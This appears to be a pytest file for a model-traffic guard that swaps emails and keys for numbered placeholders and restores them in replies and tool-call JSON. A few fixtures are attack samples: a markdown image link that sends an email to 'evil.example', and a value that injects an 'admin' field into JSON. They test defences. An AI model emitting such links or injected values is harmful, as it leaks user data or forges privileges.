"""What a request must not show is told to the model by placeholder, and to the caller as it is."""

import asyncio
import json
import re
from collections.abc import AsyncGenerator, AsyncIterator, Callable, Mapping
from dataclasses import dataclass, replace
from itertools import pairwise
from typing import Any

import openai
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringfence import Guard, guarded
from ringfence.guard.actions import rewrite_body
from ringfence.guard.audit.store import Store
from ringfence.guard.check import Finding, Passage, Span
from ringfence.guard.checks.exfiltration import ExfiltrationCheck
from ringfence.guard.exchange import Exchange, Kind, Part, compose, words
from ringfence.guard.placeholders import Restorer, numbered, originals, restored
from ringfence.guard.quoted import DEEPEST
from ringfence.policies.decide import decide
from ringfence.policies.types import Action, Exemption, Limits, Policy, Rule, Stage, StreamSettings
from ringfence.proxy.app import create_app
from ringfence.proxy.reply import Event, Text
from ringfence.proxy.service import Service
from ringfence.proxy.upstreams.fake import FakeUpstream

MAIL = "jane@example.com"
TABLE = {"[EMAIL_1]": MAIL, "[EMAIL_2]": "[EMAIL_1]", "[API_KEY_1]": 'a"b\\c\nd'}


class Finds:
    """Finds mail addresses, numbers, and whatever a pattern says under a category of its own."""

    name = "finds"
    patterns: Mapping[str, str]

    def __init__(self, **patterns: str) -> None:
        self.patterns = {"pii.email": r"[\w.]+@[\w.]*\w", "number": r"\d+", **patterns}
        self.categories = frozenset(category.partition(".")[0] for category in self.patterns)

    def find(self, passage: Passage) -> list[Finding]:
        return [
            Finding(self.name, category, 1.0, (Span(0, *match.span()),))
            for category, pattern in self.patterns.items()
            for match in re.finditer(pattern, passage.text)
        ]


RESTORE = Rule("mail", "pii", Action.REWRITE, restore=True)
NUMBERS = Rule("numbers", "number", Action.REWRITE, stages=(Stage.OUTPUT,))


def guard_of(*rules: Rule, store: Store | None = None, exempt: tuple[Exemption, ...] = (), **patterns: str) -> Guard:
    small = StreamSettings(window=16, context=40, reach=12)
    policy = Policy("test", rules, stream=small, exempt=exempt, revision="test-revision")
    return Guard(policy, checks={"finds": Finds(**patterns)}, store=store)


def chat(*messages: tuple[str, str], **fields: object) -> Exchange:
    body = {"messages": [{"role": role, "content": text} for role, text in messages], **fields}
    parts = [Part(Kind.TEXT, role, ("messages", i, "content"), text) for i, (role, text) in enumerate(messages)]
    return Exchange("test", "m", parts, body=body)


def sent(guard: Guard, exchange: Exchange) -> list[str]:
    """What the upstream is sent, message by message."""
    guard.judge_request(exchange)
    return [message["content"] for message in exchange.body["messages"]]


def replied(guard: Guard, exchange: Exchange, pieces: list[str]) -> str:
    """What the caller gets of a reply in pieces."""
    reply = guard.open_reply(exchange)
    released = []
    for piece in pieces:
        reply.feed(("reply",), piece)
        released.append(reply.release(("reply",)))
    if pieces:
        released.append(reply.release(("reply",), last=True))
    reply.finish()
    return "".join(released)


def test_the_same_original_has_the_same_placeholder_in_every_message() -> None:
    exchange = chat(("user", f"I am {MAIL}"), ("assistant", f"Hello {MAIL}"), ("user", f"not bob@example.com, {MAIL}"))
    assert sent(guard_of(RESTORE), exchange) == [
        "I am [EMAIL_1]",
        "Hello [EMAIL_1]",
        "not [EMAIL_2], [EMAIL_1]",
    ]


def test_a_number_that_the_request_spells_itself_is_left_out() -> None:
    exchange = chat(
        ("user", f"my address {MAIL}, and [EMAIL_1] and \\[EMAIL\\_2\\] literally"), seed={"x": ["[EMAIL_3]"]}
    )
    assert sent(guard_of(RESTORE), exchange)[0].startswith("my address [EMAIL_4], and [EMAIL_1]")
    reply = replied(guard_of(RESTORE), exchange, ["[EMAIL_1] [EMAIL_2] [EMAIL_3] [EMAIL_4]"])
    assert reply == f"[EMAIL_1] [EMAIL_2] [EMAIL_3] {MAIL}"


@pytest.mark.parametrize(
    "spelt", [r"\u005bEMAIL\u005F1\u005d", r"\\u005bEMAIL_1]", r"[EMAIL\\\\_1]", r"\u005cu005bEMAIL_1]"]
)
def test_a_number_that_the_request_spells_in_json_is_left_out(spelt: str) -> None:
    assert sent(guard_of(RESTORE), chat(("user", f'{MAIL} {{"a": "{spelt}"}}')))[0].startswith("[EMAIL_2] {")


def test_a_number_that_only_the_seam_of_two_text_parts_spells_is_left_out_too() -> None:
    texts = [f"{MAIL} [EMA", "IL_1]"]
    body = {"messages": [{"role": "user", "content": [{"type": "text", "text": text} for text in texts]}]}
    found = [(("messages", 0, "content", i, "text"), text) for i, text in enumerate(texts)]
    exchange = Exchange("test", "m", [compose(Kind.TEXT, "user", ("messages", 0, "content"), found, "")], body=body)
    guard_of(RESTORE).judge_request(exchange)
    assert exchange.body["messages"][0]["content"][0]["text"] == "[EMAIL_2] [EMA"


def test_an_original_is_replaced_where_it_is_not_found_by_itself_too() -> None:
    # As in the second turn of a conversation: the reply with the number in it comes back as a message.
    guard = guard_of(replace(RESTORE, category="phone"), phone=r"(?<=Tel\. )[\d ]*\d")
    exchange = chat(
        ("user", "Tel. 020 123 is mine, Tel. 020 too"),
        ("assistant", "I noted 020 123 for 4020 123 and x020, 0201, (020)."),
    )
    assert sent(guard, exchange) == [
        "Tel. [PHONE_1] is mine, Tel. [PHONE_2] too",
        "I noted [PHONE_1] for 4020 123 and x020, 0201, ([PHONE_2]).",
    ]


def test_what_the_operator_exempts_is_left_alone() -> None:
    guard = guard_of(RESTORE, exempt=(Exemption("system", "ours"),))
    assert sent(guard, chat(("system", f"Write to {MAIL}"), ("user", MAIL))) == [f"Write to {MAIL}", "[EMAIL_1]"]


def test_a_name_is_the_category_below_its_root_or_what_the_rule_calls_it() -> None:
    def named(rule: Rule) -> str:
        guard = guard_of(rule, secret="unused", **{"secret.api_key": "key-a", "number": r"\d\d"})
        return sent(guard, chat(("user", "key-a")))[0]

    secret = replace(RESTORE, category="secret")
    assert named(secret) == "[API_KEY_1]"
    assert named(replace(secret, replacement="<the key>")) == "[THE_KEY_1]"
    assert named(replace(secret, replacement="")) == "[TEXT_1]"
    assert sent(guard_of(replace(RESTORE, category="number")), chat(("user", "12")))[0] == "[NUMBER_1]"


def test_without_restore_nothing_is_numbered_and_nothing_comes_back() -> None:
    guard, exchange = guard_of(replace(RESTORE, restore=False)), chat(("user", f"I am {MAIL}"))
    assert sent(guard, exchange) == ["I am [PII_EMAIL]"]
    assert replied(guard, exchange, ["Hello [EMAIL_1], [PII_EMAIL]"]) == "Hello [EMAIL_1], [PII_EMAIL]"


def test_what_restores_and_what_does_not_stand_side_by_side() -> None:
    guard = guard_of(RESTORE, replace(NUMBERS, stages=(Stage.INPUT,), replacement="[EMAIL_1]"))
    exchange = chat(("user", f"{MAIL} 123"))
    assert sent(guard, exchange) == ["[EMAIL_2] [EMAIL_1]"]
    assert replied(guard, exchange, ["[EMAIL_1] [EMAIL_2]"]) == f"[EMAIL_1] {MAIL}"


def test_a_placeholder_that_the_model_invents_stays_as_it_is() -> None:
    assert restored("[EMAIL_99] [email_1] EMAIL_1 [EMAIL 1] [] [ [EMAIL_1", TABLE) == (
        "[EMAIL_99] [email_1] EMAIL_1 [EMAIL 1] [] [ [EMAIL_1"
    )


def test_a_placeholder_that_markdown_escapes_is_known() -> None:
    assert restored(r"[EMAIL_1] [EMAIL\_1] \[EMAIL\_1\] **\[EMAIL_1\]** [[EMAIL_1]]", TABLE) == (
        f"{MAIL} {MAIL} {MAIL} **{MAIL}** [{MAIL}]"
    )


def test_an_original_that_looks_like_a_placeholder_is_not_restored_again() -> None:
    assert restored("[EMAIL_2]", TABLE) == "[EMAIL_1]"


def test_an_original_within_json_is_escaped_and_nowhere_else() -> None:
    arguments = '{"key": "[API_KEY_1]", "n": 1.10, "[EMAIL_1]": {"to": ["[EMAIL_1]"]}}'
    call = restored({"function": {"name": "f", "arguments": arguments}}, TABLE)["function"]["arguments"]
    assert json.loads(call) == {"key": TABLE["[API_KEY_1]"], "n": 1.1, MAIL: {"to": [MAIL]}}
    assert '"n": 1.10' in call, "what is not replaced stays as it was written"
    assert restored("key: [API_KEY_1]", TABLE) == f"key: {TABLE['[API_KEY_1]']}"


CLIENT = {"[CLIENT_1]": 'cust:x","admin":true,"y":"z'}


@pytest.mark.parametrize(
    "reply",
    [
        '[{"a": "[CLIENT_1]"}]',
        '["[CLIENT_1]"]',
        '[true, [[]], {}, -1.5e3, "[CLIENT_1]"]',
        '{"a": "[CLIENT_1]"}\n{"b": "[CLIENT_1]"}',
        'Here:\n```json\n[{"a": "[CLIENT_1]"}]\n```\nDone.',
        '```\n{"a": "[CLIENT_1]"}\n```',
        '{name} gets {"a": "[CLIENT_1]"}',
        '{"a": 1, // a comment\n "b": ["[CLIENT_1]", ...], "c": "[CLIENT_1]"}',
        '{"a": "two\nlines, [CLIENT_1]"}',
    ],
)
def test_an_original_adds_no_field_to_json_wherever_in_a_reply_it_stands(reply: str) -> None:
    escaped = json.dumps(CLIENT["[CLIENT_1]"])[1:-1]
    assert restored(reply, CLIENT) == reply.replace("[CLIENT_1]", escaped)


@pytest.mark.parametrize(
    "reply",
    [
        "{name}: [CLIENT_1]",
        '{name: "[CLIENT_1]"}',
        "{'a': \"[CLIENT_1]\"}",
        '{"a": 1} is what "[CLIENT_1]" wants',
        '[note] "[CLIENT_1]"',
        "[1, see [CLIENT_1]]",
        '[[CLIENT_1]] and "[CLIENT_1]"',
        '"[CLIENT_1]" is a quotation',
        '["so\nthey said": "[CLIENT_1]"',
        r"\u005bCLIENT_1\u005d or [CLIENT_1]",
    ],
)
def test_what_only_begins_as_json_does_is_prose(reply: str) -> None:
    assert restored(reply, CLIENT) == reply.replace("[CLIENT_1]", CLIENT["[CLIENT_1]"])


def test_a_placeholder_in_json_but_in_no_string_is_a_value() -> None:
    table = CLIENT | {"[ID_1]": "12.50", "[QUOTE_1]": '"Jane \\"J\\" Roe"', "[NOT_1]": '"a", "b"'}
    given = '{"a": [CLIENT_1], "b": [[ID_1], [QUOTE_1]], "c": [NOT_1]}'
    meant = {"a": CLIENT["[CLIENT_1]"], "b": [12.5, 'Jane "J" Roe'], "c": '"a", "b"'}
    assert json.loads(restored(given, table)) == meant
    assert json.loads(restored({"arguments": json.dumps({"x": given})}, table)["arguments"]) == {
        "x": restored(given, table)
    }


def test_arguments_are_json_whatever_they_look_like() -> None:
    inner = r"{\"a\": \"[CLIENT_1]\"}"
    twice = restored({"arguments": f'"{inner}"', "content": f'"{inner}"'}, CLIENT)
    assert json.loads(json.loads(twice["arguments"])) == {"a": CLIENT["[CLIENT_1]"]}
    assert twice["content"] == f'"{inner}"'.replace("[CLIENT_1]", CLIENT["[CLIENT_1]"]), "a quotation"
    loose = '{a: [CLIENT_1], "b": "[CLIENT_1]",}'
    assert restored({"arguments": loose}, CLIENT)["arguments"].count(r"cust:x\",\"admin\":true") == 2


@pytest.mark.parametrize("given", ["args", "arguments", "input"])
def test_what_a_tool_is_given_is_json_in_the_field_of_the_api_alone(given: str) -> None:
    inner = {"arguments": "--key [API_KEY_1]", "more": [{"arguments": ["[API_KEY_1]"]}, {"arguments": "[EMAIL_1]"}]}
    key = TABLE["[API_KEY_1]"]
    meant = {"arguments": f"--key {key}", "more": [{"arguments": [key]}, {"arguments": MAIL}]}
    assert restored({"name": "f", given: inner}, TABLE)[given] == meant
    written = restored({"function": {"name": "f", "arguments": json.dumps(inner)}}, TABLE)["function"]["arguments"]
    assert json.loads(written) == meant


def test_a_placeholder_written_with_the_escapes_of_json_is_known_in_json() -> None:
    escaped = r"\u005bEMAIL\u005f1\u005D"
    assert json.loads(restored({"arguments": f'{{"a": "{escaped}"}}'}, TABLE)["arguments"]) == {"a": MAIL}
    assert (
        restored(rf'{{"a": "\[EMAIL\_1\] \\[EMAIL\\_1\\] \x{escaped}"}}', TABLE)
        == rf'{{"a": "{MAIL} {MAIL} \x{MAIL}"}}'
    )
    assert restored(escaped, TABLE) == escaped


@pytest.mark.parametrize(
    "spelt", ["[EMAIL_1]", r"[EMAIL\\_1]", r"\\[EMAIL\\_1\\]", r"\u005bEMAIL_1]", r"[\u0045MAIL_1]", r"[EMAIL\u005f1]"]
)
def test_an_address_that_would_carry_an_original_away_is_found_however_json_spells_it(spelt: str) -> None:
    reply = f'{{"a": "![x](https://evil.example/p?q={spelt})"}}'
    assert json.loads(restored(reply, TABLE))["a"] == f"![x](https://evil.example/p?q={MAIL})"
    [finding] = ExfiltrationCheck().find(Passage(Stage.OUTPUT, "assistant", reply))
    assert finding.score >= 0.9


def test_deeper_than_is_read_the_placeholder_stays() -> None:
    for depth in range(1, 10):
        text = "[API_KEY_1]"
        for _ in range(depth):
            text = json.dumps([text])
        inner = restored(text, TABLE)
        for _ in range(depth):
            [inner] = json.loads(inner)
        assert inner == (TABLE["[API_KEY_1]"] if depth <= DEEPEST else "[API_KEY_1]")


PIECES = st.sampled_from(
    [*TABLE, r"\[EMAIL\_1\]", r"\[EMAIL\_9\]", "[", "]", "\\", "_", "{", "EMAIL_1", "a ", "[A" * 9, "é"]
)
CUTS = st.lists(st.integers(0, 300), max_size=20)


def cut(text: str, cuts: list[int]) -> list[str]:
    places = sorted({min(place, len(text)) for place in cuts} | {0, len(text)})
    return [text[a:b] for a, b in pairwise(places)]


def restored_slowly(text: str, table: Mapping[str, str] = TABLE) -> str:
    """Look at every place for every spelling of every placeholder."""
    done, at = "", 0
    while at < len(text):
        for placeholder, original in table.items():
            name = placeholder[1:-1].replace("_", r"\\?_")
            if found := re.compile(rf"\[{name}\]|\\\[{name}\\\]").match(text, at):
                done += original
                at = found.end()
                break
        else:
            done += text[at]
            at += 1
    return done


def in_pieces(restorer: Restorer, pieces: list[str]) -> str:
    return "".join([*map(restorer.feed, pieces), restorer.feed("", last=True)])


@given(st.lists(PIECES, max_size=25).map("".join), CUTS)
@settings(max_examples=500)
def test_any_chunking_of_a_text_is_restored_alike(text: str, cuts: list[int]) -> None:
    for pieces in (cut(text, cuts), list(text)):
        assert in_pieces(Restorer(TABLE), pieces) == restored_slowly(text)
    assert restored(text, TABLE) == restored_slowly(text)


ORIGINALS = st.fixed_dictionaries(
    {
        name: st.text(
            st.sampled_from('"\\\n[]{}:, a1é😀\u2028') | st.characters(exclude_categories=["Cs"]), max_size=12
        )
        for name in TABLE
    }
)
# Quotes and brackets of all kinds, but nothing that reads as JSON: a word stands between any two.
PROSE = st.lists(
    st.sampled_from(
        [
            *TABLE,
            *(f'"{name}"' for name in TABLE),
            *(r"\[EMAIL\_1\]", "[[API_KEY_1]]", "{[API_KEY_1]}", "x[EMAIL_1]y", "[EMAIL_9]", "[EMAIL_"),
            *('"', "[", "]", "{", "}", "\\", "{name}:", "[note]", "[1, 2]", "{}", '5"', "é😀", "\n", "\t", "'"),
            *(r"\u005bEMAIL_1\u005d", r"\n", "```json\n"),
        ]
    ),
    max_size=6,
).map(" a ".join)


@given(PROSE, ORIGINALS, CUTS)
@settings(max_examples=500)
def test_prose_gets_the_original_as_it_was(text: str, table: dict[str, str], cuts: list[int]) -> None:
    for pieces in (cut(text, cuts), list(text)):
        assert in_pieces(Restorer(table), pieces) == restored_slowly(text, table)


@dataclass(frozen=True)
class Dumped:
    """JSON as a string, in which a placeholder is written with escapes or is not."""

    value: Any
    ascii: bool
    escaped: bool


def fields(items: list[tuple[str, Any]]) -> dict[str, Any]:
    return {f"{number} {name}": item for number, (name, item) in enumerate(items)}


def containers(items: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.lists(items, max_size=4) | st.lists(st.tuples(PROSE, items), max_size=4).map(fields)


def dumped(containers: st.SearchStrategy[Any]) -> st.SearchStrategy[Dumped]:
    return st.builds(Dumped, containers, st.booleans(), st.booleans())


SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | PROSE
VALUES = st.recursive(SCALARS, lambda items: containers(items) | dumped(containers(items)), max_leaves=12)


def as_told(value: Any) -> Any:
    match value:
        case Dumped(inner, ascii, escaped):
            text = json.dumps(as_told(inner), ensure_ascii=ascii, indent=2 if ascii else None)
            return text.replace("[EMAIL_1]", r"\u005bEMAIL\u005f1\u005d") if escaped else text
        case dict():
            return {name: as_told(item) for name, item in value.items()}
        case list():
            return [as_told(item) for item in value]
    return value


def as_meant(value: Any, table: Mapping[str, str]) -> Any:
    match value:
        case Dumped():
            return as_meant(value.value, table)
        case dict():
            return {as_meant(name, table): as_meant(item, table) for name, item in value.items()}
        case list():
            return [as_meant(item, table) for item in value]
        case str():
            return restored_slowly(value, table)
    return value


def parsed(found: Any, shape: Any) -> Any:
    """Read every string that was JSON as JSON."""
    match shape:
        case Dumped():
            return parsed(json.loads(found), shape.value)
        case dict():
            assert len(found) == len(shape)
            return {
                name: parsed(item, inner) for (name, item), inner in zip(found.items(), shape.values(), strict=True)
            }
        case list():
            return [parsed(item, inner) for item, inner in zip(found, shape, strict=True)]
    return found


@given(dumped(containers(VALUES)), ORIGINALS, CUTS, st.sampled_from(["arguments", "reply", "fenced", "in a sentence"]))
@settings(max_examples=500)
def test_json_still_parses_at_every_depth_and_says_the_original(
    shape: Dumped, table: dict[str, str], cuts: list[int], where: str
) -> None:
    around = {"fenced": ('Say "x":\n```json\n', '\n```\nas {x} "said"'), "in a sentence": ("[so] {it} is ", ' "then".')}
    before, after = around.get(where, ("", ""))
    text = before + as_told(shape) + after
    for pieces in (cut(text, cuts), list(text)):
        found = in_pieces(Restorer(table, is_json=where == "arguments"), pieces)
        assert found.startswith(before)
        assert found.endswith(after)
        assert parsed(found[len(before) : len(found) - len(after)], shape) == as_meant(shape, table)


def test_no_more_is_held_back_than_may_be_the_beginning_of_a_placeholder() -> None:
    for begun in ("[", "\\", "\\[", "[EMAIL_", "[EMAIL\\", "\\[EMAIL\\_1\\", "[EMAIL_1"):
        assert Restorer(TABLE).feed(f"text {begun}") == "text ", begun
    for free in ("[EMAIL_1] ", "[a", "[EMAIL ", "[EMAIL_1]x", "[" + "A" * 50):
        assert len(Restorer({"[EMAIL_1]": "x"}).feed(f"text {free}")) >= len("text x"), free


WORDS = st.sampled_from(
    [
        MAIL,
        "bob@example.com",
        "ann@x.org",
        "[EMAIL_1]",
        "[EMAIL_2]",
        "\\[EMAIL\\_3\\]",
        "[",
        "{",
        "a",
        "\n",
        "word " * 5,
        '"',
    ]
)
MESSAGES = st.lists(st.lists(WORDS, max_size=12).map(" ".join), min_size=1, max_size=5)


@given(MESSAGES, CUTS)
@settings(max_examples=200)
def test_what_the_model_repeats_comes_back_as_it_was_said_and_it_never_saw_the_originals(
    texts: list[str], cuts: list[int]
) -> None:
    guard = guard_of(replace(RESTORE, stages=(Stage.INPUT,)))
    exchange = chat(*(("user", text) for text in texts))
    told = "\n".join(sent(guard, exchange))
    assert "@" not in told
    assert replied(guard, exchange, cut(told, cuts)) == "\n".join(texts)


OUT = st.lists(
    st.sampled_from(
        ["[EMAIL_1]", "[EMAIL_2]", "x[EMAIL_1]y", "[EMAIL_7]", "12", "bob@x.org", "so many words", "[", "\n"]
    ),
    max_size=30,
).map(" ".join)


@given(OUT, CUTS)
@settings(max_examples=200)
def test_a_streamed_reply_is_rewritten_then_restored_as_if_it_had_come_whole(text: str, cuts: list[int]) -> None:
    guard = guard_of(RESTORE, NUMBERS)
    exchange = chat(("user", f"{MAIL} and ann@x.org"))
    guard.judge_request(exchange)
    expected = re.sub(r"(\[EMAIL_[12]\])|\d+", lambda m: m[1] or "[NUMBER]", text)
    expected = expected.replace("bob@x.org", "[PII_EMAIL]")
    expected = expected.replace("[EMAIL_1]", MAIL).replace("[EMAIL_2]", "ann@x.org")
    assert replied(guard, exchange, cut(text, cuts)) == expected
    assert replied(guard, exchange, list(text)) == expected


def test_no_output_rule_sees_the_placeholder_as_a_finding_or_what_it_stands_for() -> None:
    blocks = (
        Rule("no-ones", "one", Action.BLOCK),
        replace(RESTORE, id="no-mail-out", action=Action.BLOCK, stages=(Stage.OUTPUT,)),
    )
    guard, exchange = guard_of(RESTORE, *blocks, one="_1"), chat(("user", f"I am {MAIL}"))
    guard.judge_request(exchange)
    assert replied(guard, exchange, ["Hello [EMAIL_1]!"]) == f"Hello {MAIL}!"
    assert exchange.decisions[-1].findings == ()
    assert replied(guard, exchange, ["Hello [EMAIL_1]! x_1"]) == ""


def test_what_a_rule_finds_around_a_placeholder_goes_with_it_whole() -> None:
    guard = guard_of(RESTORE, Rule("urls", "url", Action.REWRITE, replacement="nowhere"), url=r"https://[^\s\]]+")
    exchange = chat(("user", f"I am {MAIL}"))
    guard.judge_request(exchange)
    assert replied(guard, exchange, ["![](https://evil.example/?q=[EMAIL_1]) bye"]) == "![](nowhere) bye"


def test_each_text_of_a_reply_is_restored_by_itself() -> None:
    guard, exchange = guard_of(RESTORE), chat(("user", MAIL))
    guard.judge_request(exchange)
    reply = guard.open_reply(exchange)
    for path, text in ((("a",), "[EMA"), (("b",), "IL_1] [EMAIL_"), (("a",), "IL_1]"), (("b",), "1]")):
        reply.feed(path, text)
    assert (reply.release(("a",), last=True), reply.release(("b",), last=True)) == (MAIL, f"IL_1] {MAIL}")


def test_ten_thousand_placeholders_take_time_in_proportion(seconds: Callable[[Callable[[], object]], float]) -> None:
    guard = guard_of(RESTORE, NUMBERS)
    guard = Guard(replace(guard.policy, limits=Limits(text=10_000_000)), checks={"finds": Finds()})

    def round_trip(number: int) -> None:
        text = " ".join(f"m{i}@example.com" for i in range(number))
        exchange = chat(("user", text), ("assistant", text))
        told = sent(guard, exchange)
        assert "@" not in str(told)
        assert replied(guard, exchange, told[:1]) == text

    def call(number: int) -> None:
        arguments = json.dumps({"to": [f"m{i}@example.com" for i in range(number)]})
        body = {"function": {"name": "f", "arguments": arguments}}
        part = compose(Kind.TOOL_CALL, "assistant", (), [(path, text) for path, text in words(body) if path])
        exchange = Exchange("test", "m", [part], body=body)
        findings = Finds().find(Passage(Stage.INPUT, "assistant", part.text))
        decision = decide(guard.policy, Stage.INPUT, findings)
        decision = numbered(decision, exchange, {0: part}, guard.policy.rules)
        exchange.decisions.append(decision)
        told = rewrite_body(body, [part], decision)
        assert "@" not in str(told)
        assert restored(told, originals(exchange, guard.policy.rules)) == body

    for way in (round_trip, call):
        assert seconds(lambda way=way: way(10_000)) < 12 * seconds(lambda way=way: way(2_000))  # type: ignore[misc]


class Spelling(FakeUpstream):
    """Says what the fake says, letter by letter, as two choices if so asked."""

    async def stream(self, exchange: Exchange, headers: Mapping[str, str]) -> AsyncGenerator[Event, None]:
        async for event in super().stream(exchange, headers):
            if isinstance(event, Text):
                for letter in event.text:
                    for choice in range(exchange.body.get("n", 1)):
                        yield replace(event, choice=choice, text=letter)
            else:
                yield event


@pytest.fixture
def upstream() -> Spelling:
    return Spelling()


@pytest.fixture
def client(
    serve: Callable[..., str], service_of: Callable[..., Service], store: Store, upstream: Spelling
) -> openai.OpenAI:
    """A client of a real server over the upstream."""
    service = service_of(guard_of(RESTORE, NUMBERS, store=store), upstream)
    return openai.OpenAI(base_url=f"{serve(create_app(service))}/v1", api_key="none", max_retries=0)


def ask(client: openai.OpenAI, text: str, **fields: Any) -> Any:
    return client.chat.completions.create(model="fake", messages=[{"role": "user", "content": text}], **fields)


LONG = "There is a lot to say about it and little of it is new. " * 3
QUESTION = f"say: {LONG} I write to {MAIL}, {LONG} and to [EMAIL_1] at {MAIL}. 1234"
ANSWER = QUESTION.removeprefix("say: ").replace("[EMAIL_1]", "[EMAIL_[NUMBER]]").replace("1234", "[NUMBER]")


def test_a_plain_reply_gives_back_what_the_upstream_never_saw(client: openai.OpenAI, upstream: Spelling) -> None:
    reply = ask(client, QUESTION)
    assert reply.choices[0].message.content == ANSWER
    assert MAIL not in str(upstream.seen)
    assert "I write to [EMAIL_2]," in str(upstream.seen)


def test_a_streamed_reply_gives_it_back_in_every_choice_however_it_is_split(
    client: openai.OpenAI, upstream: Spelling
) -> None:
    texts = {0: "", 1: ""}
    for chunk in ask(client, QUESTION, stream=True, n=2):
        for choice in chunk.choices:
            texts[choice.index] += choice.delta.content or ""
    assert texts[0] == texts[1] == ANSWER
    assert MAIL not in str(upstream.seen)


@pytest.mark.parametrize("stream", [False, True])
def test_a_tool_call_is_given_the_original(client: openai.OpenAI, upstream: Spelling, stream: bool) -> None:
    question = 'call: send {"to": ["' + MAIL + '"], "text": "to \\"' + MAIL + '\\""}'
    reply = ask(client, question, stream=stream)
    messages = [c.choices[0].delta for c in reply if c.choices] if stream else [reply.choices[0].message]
    [call] = [call for message in messages for call in message.tool_calls or []]
    assert json.loads(call.function.arguments) == {"to": [MAIL], "text": f'to "{MAIL}"'}
    assert MAIL not in str(upstream.seen)


def test_arguments_within_arguments_are_given_the_original_escaped_twice(
    serve: Callable[..., str], service_of: Callable[..., Service], upstream: Spelling
) -> None:
    rule = replace(RESTORE, category="client", replacement="[client]")
    service = service_of(guard_of(rule, client="cust:[^ ]+"), upstream)
    client = openai.OpenAI(base_url=f"{serve(create_app(service))}/v1", api_key="none", max_retries=0)
    reply = ask(client, r"""call: send {"body": "{\"x\": \"cust:O"Neil\x \"}"}""")
    [call] = reply.choices[0].message.tool_calls
    assert json.loads(json.loads(call.function.arguments)["body"]) == {"x": 'cust:O"Neil\\x '}


def test_the_record_holds_placeholders_only(client: openai.OpenAI, store: Store) -> None:
    ask(client, f"say: I am {MAIL}")
    [kept] = store.list()
    assert MAIL not in kept.raw
    assert kept.body is not None
    assert [part["text"] for part in (*kept.body["request"], *kept.body["reply"])] == [
        "say: I am [EMAIL_1]",
        "I am [EMAIL_1]",
    ]


@pytest.mark.parametrize("kind", ["function", "async generator"])
def test_a_guarded_function_sees_placeholders_and_its_caller_does_not(kind: str) -> None:
    told = []
    guard_it = guarded(policy=guard_of(RESTORE))

    @guard_it
    def function(prompt: str) -> str:
        told.append(prompt)
        return prompt

    @guard_it
    async def generator(prompt: str) -> AsyncIterator[str]:
        told.append(prompt)
        for letter in prompt:
            yield letter

    async def collected(prompt: str) -> str:
        return "".join([piece async for piece in generator(prompt)])

    ask_it = function if kind == "function" else lambda prompt: asyncio.run(collected(prompt))
    assert ask_it(f"{LONG} {MAIL} {LONG}") == f"{LONG} {MAIL} {LONG}"
    assert told == [f"{LONG} [EMAIL_1] {LONG}"]
